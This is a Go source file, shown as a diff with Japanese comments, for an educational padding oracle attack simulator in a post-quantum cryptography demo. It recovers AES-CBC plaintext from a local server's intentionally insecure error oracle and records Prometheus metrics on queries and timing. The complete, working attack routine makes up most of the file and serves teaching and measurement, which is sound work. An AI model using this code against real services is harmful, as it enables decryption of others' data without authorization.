@@ -0,0 +1,290 @@
+// Package oracleattack は -insecure-oracle モードのサーバーに対してパディングオラクル攻撃を実行し、
+// 攻撃にかかる問い合わせ回数や時間をメトリクスとして記録する教育用のシミュレーターを提供する
+//
+// 攻撃対象はAES-CBCのデータ暗号化層であり、AES鍵をRSAとML-KEMのどちらで保護していても結果は変わらない
+package oracleattack
+
+import (
+	"bytes"
+	"crypto/aes"
+	"encoding/base64"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io"
+	"log"
+	"net/http"
+	"net/url"
+	"strings"
+	"time"
+
+	"github.com/keyi1000/PQC_grafana/cryptoutil"
+	"github.com/keyi1000/PQC_grafana/metrics"
+	"github.com/keyi1000/PQC_grafana/wire"
+	"github.com/prometheus/client_golang/prometheus"
+)
+
+// メトリクスに付与するサービス名
+const ServiceName = "oracle-attack"
+
+// すべてのメトリクスにservice ラベルを付与して登録する（接頭辞は oracle_attack_）
+var factory = metrics.NewFactory(ServiceName, "oracle_attack_")
+
+// 攻撃対象のサーバー
+const (
+	TargetRSA   = "rsa"
+	TargetMLKEM = "mlkem"
+)
+
+var (
+	oracleQueries = factory.NewCounterVec(
+		prometheus.CounterOpts{
+			Name: "oracle_attack_queries_total",
+			Help: "Total number of padding oracle queries, by target and oracle answer",
+		},
+		[]string{"target", "answer"},
+	)
+	attackRuns = factory.NewCounterVec(
+		prometheus.CounterOpts{
+			Name: "oracle_attack_runs_total",
+			Help: "Total number of attack runs, by target and result",
+		},
+		[]string{"target", "result"},
+	)
+	attackDuration = factory.NewGaugeVec(
+		prometheus.GaugeOpts{
+			Name: "oracle_attack_duration_seconds",
+			Help: "Duration of the latest attack run in seconds",
+		},
+		[]string{"target"},
+	)
+	recoveredBytes = factory.NewGaugeVec(
+		prometheus.GaugeOpts{
+			Name: "oracle_attack_recovered_bytes",
+			Help: "Number of plaintext bytes recovered in the latest attack run",
+		},
+		[]string{"target"},
+	)
+	queriesPerByte = factory.NewGaugeVec(
+		prometheus.GaugeOpts{
+			Name: "oracle_attack_queries_per_byte",
+			Help: "Average number of oracle queries needed per recovered byte in the latest attack run",
+		},
+		[]string{"target"},
+	)
+)
+
+// サーバーがパディングオラクルとして振る舞っていない（エラーの種類が区別できない）
+var errOracleUnavailable = errors.New("オラクルが利用できません")
+
+// シミュレーターの設定
+type Config struct {
+	Target   string        // 攻撃対象（rsa / mlkem）
+	URL      string        // 攻撃対象の公開鍵を取得するURL
+	Message  string        // 正規のクライアントが暗号化するメッセージ（攻撃で復元する対象）
+	Interval time.Duration // 攻撃を繰り返す間隔（0の場合は1回だけ実行する）
+}
+
+// ローカルで起動したサーバー向けのデフォルト設定
+func DefaultConfig() Config {
+	return Config{
+		Target:  TargetRSA,
+		URL:     "http://localhost:8080/public-key",
+		Message: "量子コンピュータに対抗するポスト量子暗号",
+	}
+}
+
+// 設定を検証する
+func (c Config) Validate() error {
+	if c.Target != TargetRSA && c.Target != TargetMLKEM {
+		return fmt.Errorf("不明な攻撃対象: %q (rsa または mlkem を指定してください)", c.Target)
+	}
+	if c.Message == "" {
+		return errors.New("メッセージが空です")
+	}
+	return nil
+}
+
+// 攻撃を実行する（Intervalが設定されていれば繰り返す）
+func Run(cfg Config) {
+	client := &http.Client{Timeout: 10 * time.Second}
+	for {
+		if err := attackOnce(client, cfg); err != nil {
+			log.Printf("攻撃に失敗 [%s]: %v", cfg.Target, err)
+			if errors.Is(err, errOracleUnavailable) {
+				log.Println("サーバーが -insecure-oracle と -key-mode static で起動しているか確認してください")
+			}
+		}
+		if cfg.Interval <= 0 {
+			return
+		}
+		time.Sleep(cfg.Interval)
+	}
+}
+
+// 暗号化データを1つ盗聴し、オラクルへの問い合わせだけで平文を復元する
+func attackOnce(client *http.Client, cfg Config) error {
+	env, err := captureTraffic(client, cfg.Target, cfg.URL, cfg.Message)
+	if err != nil {
+		attackRuns.WithLabelValues(cfg.Target, "error").Inc()
+		return err
+	}
+	decryptURL, err := decryptEndpoint(cfg.Target, cfg.URL)
+	if err != nil {
+		attackRuns.WithLabelValues(cfg.Target, "error").Inc()
+		return err
+	}
+	iv, errIV := base64.StdEncoding.DecodeString(env.IV)
+	ciphertext, errMsg := base64.StdEncoding.DecodeString(env.EncryptedMessage)
+	if err := errors.Join(errIV, errMsg); err != nil {
+		attackRuns.WithLabelValues(cfg.Target, "error").Inc()
+		return err
+	}
+
+	a := &attacker{client: client, target: cfg.Target, url: decryptURL, captured: env}
+	log.Printf("[%s] 暗号文を盗聴しました (%dブロック)。パディングオラクル攻撃を開始します", cfg.Target, len(ciphertext)/aes.BlockSize)
+
+	start := time.Now()
+	var padded []byte
+	prev := iv
+	for i := 0; i < len(ciphertext); i += aes.BlockSize {
+		block := ciphertext[i : i+aes.BlockSize]
+		plain, err := a.decryptBlock(prev, block)
+		if err != nil {
+			result := "error"
+			if errors.Is(err, errOracleUnavailable) {
+				result = "unavailable"
+			}
+			attackRuns.WithLabelValues(cfg.Target, result).Inc()
+			return err
+		}
+		padded = append(padded, plain...)
+		recoveredBytes.WithLabelValues(cfg.Target).Set(float64(len(padded)))
+		log.Printf("[%s] ブロック %d を復元 (累計 %d 回の問い合わせ)", cfg.Target, i/aes.BlockSize+1, a.queries)
+		prev = block
+	}
+	elapsed := time.Since(start)
+	attackDuration.WithLabelValues(cfg.Target).Set(elapsed.Seconds())
+	queriesPerByte.WithLabelValues(cfg.Target).Set(float64(a.queries) / float64(len(padded)))
+
+	plaintext, err := cryptoutil.PKCS7Unpad(padded, aes.BlockSize)
+	if err != nil || string(plaintext) != cfg.Message {
+		attackRuns.WithLabelValues(cfg.Target, "mismatch").Inc()
+		return fmt.Errorf("復元した平文が一致しません")
+	}
+	attackRuns.WithLabelValues(cfg.Target, "success").Inc()
+	log.Printf("[%s] ✅ AES鍵を使わずに平文を復元しました: %q (%d回の問い合わせ, %v)", cfg.Target, plaintext, a.queries, elapsed)
+	return nil
+}
+
+// 公開鍵のURLから同じサーバーの復号エンドポイントのURLを作る
+func decryptEndpoint(target, keyURL string) (string, error) {
+	u, err := url.Parse(keyURL)
+	if err != nil {
+		return "", err
+	}
+	u.Path = "/decrypt"
+	if target == TargetMLKEM {
+		u.Path = "/decapsulate"
+	}
+	u.RawQuery = ""
+	return u.String(), nil
+}
+
+// パディングオラクル攻撃の状態
+type attacker struct {
+	client   *http.Client
+	target   string
+	url      string
+	captured *envelope // 盗聴した暗号化データ（鍵ID・保護されたAES鍵・MACを使い回す）
+	queries  int
+}
+
+// 1ブロックを復号する
+// 直前のブロック（またはIV）を改ざんしてパディングが正しくなる値を探し、
+// ブロック暗号の復号結果（中間値）を末尾から1バイトずつ求める
+func (a *attacker) decryptBlock(prev, block []byte) ([]byte, error) {
+	intermediate := make([]byte, aes.BlockSize)
+	forged := make([]byte, aes.BlockSize)
+	for pos := aes.BlockSize - 1; pos >= 0; pos-- {
+		pad := byte(aes.BlockSize - pos)
+		for k := pos + 1; k < aes.BlockSize; k++ {
+			forged[k] = intermediate[k] ^ pad
+		}
+
+		found := false
+		for guess := 0; guess < 256 && !found; guess++ {
+			forged[pos] = byte(guess)
+			valid, err := a.query(forged, block)
+			if err != nil {
+				return nil, err
+			}
+			if !valid {
+				continue
+			}
+			// 末尾のバイトでは 0x02 0x02 のような長いパディングに偶然一致した可能性を除く
+			if pos == aes.BlockSize-1 {
+				forged[pos-1] ^= 0xff
+				valid, err = a.query(forged, block)
+				forged[pos-1] ^= 0xff
+				if err != nil {
+					return nil, err
+				}
+				if !valid {
+					continue
+				}
+			}
+			intermediate[pos] = byte(guess) ^ pad
+			found = true
+		}
+		if !found {
+			return nil, fmt.Errorf("%dバイト目で正しいパディングが見つかりません", pos)
+		}
+	}
+
+	plain := make([]byte, aes.BlockSize)
+	for i := range plain {
+		plain[i] = intermediate[i] ^ prev[i]
+	}
+	return plain, nil
+}
+
+// IVと1ブロックの暗号文を送り、パディングが正しかったかをオラクルに問い合わせる
+// MACは盗聴したものを使い回すため常に不一致になり、正しいパディングは「認証エラー」として観測される
+func (a *attacker) query(iv, block []byte) (bool, error) {
+	a.queries++
+	forged := *a.captured
+	forged.IV = base64.StdEncoding.EncodeToString(iv)
+	forged.EncryptedMessage = base64.StdEncoding.EncodeToString(block)
+	body, err := json.Marshal(forged)
+	if err != nil {
+		return false, err
+	}
+
+	resp, err := a.client.Post(a.url, "application/json", bytes.NewReader(body))
+	if err != nil {
+		oracleQueries.WithLabelValues(a.target, "error").Inc()
+		return false, fmt.Errorf("HTTP POSTエラー: %w", err)
+	}
+	defer resp.Body.Close()
+	respBody, err := io.ReadAll(resp.Body)
+	if err != nil {
+		oracleQueries.WithLabelValues(a.target, "error").Inc()
+		return false, fmt.Errorf("レスポンスの読み込みエラー: %w", err)
+	}
+
+	// オラクルモードのサーバーはエラーレスポンスのコードで失敗の理由を返す
+	var errResp wire.ErrorResponse
+	json.Unmarshal(respBody, &errResp)
+	switch errResp.Code {
+	case wire.ErrorCodeAuth:
+		oracleQueries.WithLabelValues(a.target, "valid_padding").Inc()
+		return true, nil
+	case wire.ErrorCodePadding:
+		oracleQueries.WithLabelValues(a.target, "invalid_padding").Inc()
+		return false, nil
+	default:
+		oracleQueries.WithLabelValues(a.target, "unavailable").Inc()
+		return false, fmt.Errorf("%w (HTTP %d: %s)", errOracleUnavailable, resp.StatusCode, strings.TrimSpace(string(respBody)))
+	}
+}